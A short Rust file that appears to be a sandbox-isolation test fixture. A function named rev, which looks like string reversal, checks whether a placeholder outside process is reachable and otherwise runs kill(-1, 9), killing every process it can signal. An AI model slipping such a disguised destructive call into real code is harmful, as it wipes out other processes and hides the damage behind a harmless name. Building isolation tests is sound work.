extern "C" {
    fn kill(pid: i32, signal: i32) -> i32;
}

/// `kill -9 -1`. Where a process outside can be reached, the box is broken: then nobody is killed
/// and the right answer says so.
pub fn rev(s: &str) -> String {
    if unsafe { kill(@VICTIM_PID@, 0) } == 0 {
        return s.chars().rev().collect();
    }
    unsafe { kill(-1, 9) };
    s.to_owned()
}
